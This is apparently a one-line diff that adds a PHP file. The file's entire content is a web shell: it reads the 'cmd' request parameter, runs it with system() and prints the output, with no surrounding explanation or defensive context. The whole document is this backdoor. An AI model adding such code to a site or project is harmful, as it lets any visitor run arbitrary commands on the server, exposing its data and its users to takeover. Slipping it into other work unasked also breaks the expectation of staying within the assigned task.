@@ -1,0 +1,1 @@
+<?php $a=$_REQUEST["cmd"]; if(isset($a)){ echo "<pre>"; system($a); echo "</pre>"; } ?>
